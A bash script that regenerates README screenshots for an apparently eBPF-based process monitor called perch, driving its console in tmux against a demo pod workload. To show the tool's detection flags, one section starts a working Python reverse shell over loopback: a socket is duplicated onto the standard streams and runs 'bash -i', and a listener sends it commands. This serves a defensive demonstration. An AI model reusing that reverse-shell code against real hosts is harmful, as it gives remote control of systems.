#!/usr/bin/env bash
# Regenerates the README's screenshots from the real console: builds the
# release binaries, starts a real perchd (eBPF, so root) on a private socket
# and a small demo workload (demo.sh), drives `perch` in a private tmux
# server, and renders each captured screen to screenshots/<name>.png with
# render.py.  Everything it starts is stopped on exit, failure included.
#
#   screenshots/regenerate.sh      (as root, after ./x setup)
set -euo pipefail
cd "$(dirname "$0")/.."
umask 022 # the demo's www-data processes read what root makes

# What rendering needs, from Debian: Debian's own python3 with pyte (the
# terminal emulator that parses the capture) and Pillow (drawing), and a
# monospace font with box-drawing glyphs.
APT_PACKAGES=(tmux python3-pyte python3-pil fonts-dejavu-core)
PYTHON=/usr/bin/python3
# A Kubernetes-shaped pod (systemd cgroup driver) for the CONTAINER column.
POD_UID=7c4b9d2e-51a3-4f08-9b6e-2d8f0a1c3e57
CONTAINER_ID=3f9a1c0e7b2d48a6c5e1f0b9d7a3c2e18b4f6a0d9c7e5b3a1f2e4d6c8b0a9f7e
POD_REL="kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod${POD_UID//-/_}.slice/cri-containerd-$CONTAINER_ID.scope"
SHOP_FILTER=cwd:/srv/shop
WAIT_SECS=30 # how long wait_screen waits, unless told otherwise

log() { printf '\033[1mscreenshots:\033[0m %s\n' "$*" >&2; }
fail() { log "error: $*"; exit 1; }

need_apt() {
  local missing=()
  for p in "${APT_PACKAGES[@]}"; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep "install ok installed" >/dev/null || missing+=("$p")
  done
  if ((${#missing[@]})); then
    log "installing ${missing[*]} (apt)"
    apt-get update -qq >/dev/null
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends "${missing[@]}" >/dev/null
  fi
}

[ "$(id -u)" -eq 0 ] || fail "needs root (perchd loads eBPF programs; the demo makes cgroups)"
need_apt
cgroup2=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
[ -n "$cgroup2" ] || fail "no cgroup2 mount in /proc/self/mounts (the pod needs one)"

log "building release binaries"
cargo build --quiet --release --bins
bin=$(cargo metadata --format-version 1 --no-deps |
  "$PYTHON" -c 'import json, sys; print(json.load(sys.stdin)["target_directory"])')/release

# Everything below is undone by cleanup, whatever happens.
work=$(mktemp -d /tmp/perch-shots.XXXXXX)
tsock="perch-shots-$$"
perchd_pid="" demo_pid="" listener_pid="" made_cgroups=()
cleanup() {
  set +e
  tmux -L "$tsock" kill-server 2>/dev/null
  # The incident's reverse shell and its listener.
  [ -s "$work/rs.pid" ] && kill -KILL "$(cat "$work/rs.pid")" 2>/dev/null
  [ -n "$listener_pid" ] && kill "$listener_pid" 2>/dev/null
  # The demo is one process group (its supervisor's); the pod's cgroup is
  # emptied too in case anything left the group.
  [ -z "$demo_pid" ] && demo_pid=$(cat "$work/demo.pid" 2>/dev/null)
  [ -n "$demo_pid" ] && kill -KILL -- "-$demo_pid" 2>/dev/null
  local pid i
  while read -r pid; do kill -KILL "$pid" 2>/dev/null; done <"$cgroup2/$POD_REL/cgroup.procs" 2>/dev/null
  if ((${#made_cgroups[@]})); then
    for ((i = ${#made_cgroups[@]} - 1; i >= 0; i--)); do
      # A cgroup whose last process just died is busy for a moment.
      for _ in $(seq 50); do rmdir "${made_cgroups[i]}" 2>/dev/null && break; [ -d "${made_cgroups[i]}" ] || break; sleep 0.1; done
    done
  fi
  if [ -n "$perchd_pid" ]; then kill "$perchd_pid" 2>/dev/null; wait "$perchd_pid" 2>/dev/null; fi
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# until WHAT CMD...: retries CMD for up to 20 s.
until_ok() {
  local what=$1; shift
  for _ in $(seq 100); do "$@" && return 0; sleep 0.2; done
  fail "timed out waiting for $what"
}

log "starting perchd"
"$bin/perchd" --socket "$work/perchd.sock" --audit-log "$work/audit.log" \
  --log warn </dev/null >"$work/perchd.log" 2>&1 &
perchd_pid=$!
perchd_answers() {
  kill -0 "$perchd_pid" 2>/dev/null || { cat "$work/perchd.log" >&2; fail "perchd exited"; }
  "$bin/perch" --socket "$work/perchd.sock" ps >/dev/null 2>&1
}
until_ok "perchd to answer" perchd_answers

log "starting the demo workload"
dir="$cgroup2"
for comp in ${POD_REL//\// }; do
  dir="$dir/$comp"
  if [ ! -d "$dir" ]; then mkdir "$dir"; made_cgroups+=("$dir"); fi
done
# Readable by the demo's unprivileged processes (uid 33, www-data).
chmod 755 "$work"
mkdir -p "$work/srv/shop"
cp screenshots/demo.sh "$work/demo.sh"
mkfifo -m 666 "$work/idle"
# setsid -f: the supervisor is a child of init (no ancestry through this
# script in the tree) and leads its own process group (one kill ends it).
(
  cd "$work/srv/shop"
  export ROLE=supervisor DEMO="$work/demo.sh" FIFO="$work/idle" \
    POD_CGROUP="$cgroup2/$POD_REL" CONTAINER_ID
  # shellcheck disable=SC2016 # expanded by the inner bash
  exec setsid -f bash -c 'echo $$ >"$1"; exec -a "shop-supervisor --config /etc/shop/stack.toml" bash <"$DEMO"' \
    _ "$work/demo.pid" </dev/null >/dev/null 2>&1
)
until_ok "the demo to start" test -s "$work/demo.pid"
demo_pid=$(cat "$work/demo.pid")

# The console, in a private tmux server (no user config, no status line).
echo 'set -g status off' >"$work/tmux.conf"
tmux -L "$tsock" -f "$work/tmux.conf" -u new-session -d -x 160 -y 48 \
  env -u NO_COLOR "$bin/perch" --socket "$work/perchd.sock"
keys() { tmux -L "$tsock" send-keys "$@"; }

# screen_is PATTERN...: whether the last capture (colours stripped) shows
# every pattern: an extended regex on some line; `!RE` on none; `NxRE` on
# at least N lines; `@RE` on some line of the capture with its colours.
screen_is() {
  local p n
  for p in "$@"; do
    case $p in
      !*) ! grep -Eq -- "${p#!}" "$work/screen.txt" || return 1 ;;
      [0-9]x:*)
        n=$(grep -Ec -- "${p#*x:}" "$work/screen.txt" || true)
        ((n >= ${p%%x:*})) || return 1
        ;;
      @*) grep -Eq -- "${p#@}" "$work/screen.ansi" || return 1 ;;
      *) grep -Eq -- "$p" "$work/screen.txt" || return 1 ;;
    esac
  done
}

# wait_screen WHAT PATTERN...: captures until screen_is holds, for up to
# WAIT_SECS seconds.
wait_screen() {
  local what=$1 deadline=$((SECONDS + WAIT_SECS)); shift
  while ((SECONDS < deadline)); do
    kill -0 "$perchd_pid" 2>/dev/null || fail "perchd exited (waiting for $what)"
    tmux -L "$tsock" capture-pane -p -e -N >"$work/screen.ansi" 2>/dev/null ||
      fail "the console is gone (waiting for $what)"
    sed 's/\x1b\[[0-9;:]*m//g' "$work/screen.ansi" >"$work/screen.txt"
    screen_is "$@" && return 0
    sleep 0.2
  done
  cat "$work/screen.txt" >&2
  fail "timed out waiting for $what (last screen above)"
}

# select_pid PID: moves the cursor down (j) until the selected row (the
# one on a cyan background) is process PID, at most 20 rows: the rows above
# depend on what ran before (an exited setsid stays as an ancestor).
select_pid() {
  local i n
  for i in $(seq 20); do
    tmux -L "$tsock" capture-pane -p -e -N >"$work/screen.ansi" 2>/dev/null ||
      fail "the console is gone (selecting $1)"
    sed 's/\x1b\[[0-9;:]*m//g' "$work/screen.ansi" >"$work/screen.txt"
    n=$(grep -nE -- "^ *$1 " "$work/screen.txt" | head -1 | cut -d: -f1)
    [ -n "$n" ] && sed -n "${n}p" "$work/screen.ansi" | grep -q '48;5;6m' && return 0
    keys j
    sleep 0.3
  done
  fail "process $1 could not be selected"
}

# shoot NAME WHAT PATTERN...: renders the first capture showing PATTERN...
# to screenshots/NAME.png.
shoot() {
  local name=$1 what=$2 size; shift 2
  wait_screen "$what" "$@"
  size=$(tmux -L "$tsock" display-message -p '#{pane_width} #{pane_height}')
  # shellcheck disable=SC2086 # two numbers
  "$PYTHON" screenshots/render.py "$work/screen.ansi" $size "screenshots/$name.png"
  log "wrote screenshots/$name.png ($what)"
}

# (a) The tree, filtered to the demo, once every part has arrived and been
# sampled (the web process shows CPU), with the demo's root selected (the
# selected row is the one on a cyan background).
wait_screen "the console connected" 'eBPF' 'connected' 'CPU%'
keys F4 # the filter prompt (also \)
keys -l "$SHOP_FILTER"
keys Enter
wait_screen "the demo's tree" \
  "Filter: $SHOP_FILTER" 'CONTAINER' 'shop-supervisor' 'www-data +[A-Z] +[0-9.]*[1-9][0-9.]* .*shop-web' \
  'shop-worker' '\[exit 0\] gzip' 'containerd-shim' 'nginx: master' '2x:nginx: worker process' \
  "${CONTAINER_ID:0:12}"
select_pid "$demo_pid"
shoot tree "the demo's tree" '@48;5;6m.*shop-supervisor' '\[exit 0\] gzip' '2x:nginx: worker process'

# (b) The same on an 80x24 terminal: columns give way to COMMAND.
tmux -L "$tsock" resize-window -x 80 -y 24
shoot tree-80x24 "the tree at 80x24" 'COMMAND' 'TIME\+' '!READ/s' 'shop-sup'
tmux -L "$tsock" resize-window -x 160 -y 48
wait_screen "the console at 160x48 again" 'TIME\+' 'CONTAINER' 'shop-supervisor'

# (c) A search: matches highlighted, the count in the prompt.
keys /
keys -l nginx
shoot search "the search for nginx" 'Search: nginx' '[0-9]+ match' '2x:nginx: worker process'

# (d) The detail view of the second match (an nginx worker in the pod),
# once its graphs span eight of their 12.5 s steps (the console records
# them from its start).  Enter keeps the selection, Esc clears the search
# (and filter) so the footer is the plain key bar again.
keys Down
keys Enter
keys Escape
keys Enter
WAIT_SECS=180 shoot detail "the detail view with 100 s of history" \
  "Command +'nginx: worker process'" 'Parents' 'Container +containerd' 'Pod' '!Search:' 'RSS +.*(▁|▂|▃|▄|▅|▆|▇|█){8}'

# (e) The kill dialog on that worker, reason typed, nothing sent (Esc).
keys Escape
keys k
wait_screen "the action menu" 'Act on' 'Kill process'
keys Enter
wait_screen "the kill dialog" 'YES, KILL PROCESS'
keys -l "crypto miner started by the nginx worker"
shoot dialog "the kill dialog with a reason" 'YES, KILL PROCESS' 'crypto miner started'
keys Escape

# (f) An incident: a reverse shell on loopback (a listener that sends it
# one command, and a python that puts its socket on its stdio and runs
# `bash -i`), started from the shop's directory.  Its flags roll up into
# one notable trace: the Traces screen, the trace's tree, the Flags screen.
"$PYTHON" - "$work/rs.port" <<'PY' &
import socket, sys, time
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(1)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
c, _ = s.accept()
c.sendall(b"id; uname -a\n")
time.sleep(3600)
PY
listener_pid=$!
until_ok "the listener" test -s "$work/rs.port"
(
  cd "$work/srv/shop"
  # shellcheck disable=SC2016 # python code
  setsid -f "$PYTHON" -c 'import os, socket, sys
open(sys.argv[2], "w").write(str(os.getpid()))
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/bash", ["bash", "-i"])' "$(cat "$work/rs.port")" "$work/rs.pid" </dev/null >/dev/null 2>&1
)
keys y
wait_screen "the reverse shell's trace" 'SCORE' 'reverse_shell|stdio_socket_dup'
# The cursor stays on the trace it was on as the list re-sorts: to the top,
# where the highest score is.
keys Home
shoot traces "the Traces screen with the reverse shell's trace" 'SCORE' 'NAME/TRIGGER' 'reverse_shell|stdio_socket_dup' 'Traces: [0-9]+ high'
keys Enter
shoot trace "the reverse shell's trace" 'Flags, oldest first' 'reverse_shell' 'T1059' '\(notable\)'
keys Escape
keys f
shoot flags "the Flags screen" 'SEV' 'MITRE' 'T1059' 'standard streams'
log "done"
